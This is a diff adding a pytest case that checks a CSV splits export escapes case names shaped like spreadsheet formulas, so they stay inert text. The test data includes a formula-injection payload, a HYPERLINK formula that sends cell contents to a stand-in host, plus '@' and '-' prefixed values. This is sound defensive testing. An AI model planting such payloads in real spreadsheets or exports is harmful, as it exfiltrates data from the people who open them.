@@ -369,3 +369,21 @@ def test_attack_an_output_folder_whose_parent_cannot_be_written_is_one_clear_err
     monkeypatch.setattr(tempfile, "mkdtemp", refused)
     with pytest.raises(OutputError, match="Cannot write beside"):
         export_regions(project, "png", out=tmp_path / "out", actor="lead")
+
+
+def test_attack_a_case_named_like_a_formula_is_text_in_splits_csv(tmp_path: Path) -> None:
+    import csv
+
+    from clinlabel.exports.splits import write_splits_csv
+
+    path = write_splits_csv(
+        tmp_path / "splits.csv",
+        {'=HYPERLINK("http://x/?"&A1,"x")': "train", "-5": "test", "Case_1": "train"},
+        {'=HYPERLINK("http://x/?"&A1,"x")': "@SUM(1)"},
+        {"Case_1": 2},
+    )
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert ["'-5", "test", "", "0"] in rows and ["Case_1", "train", "", "2"] in rows
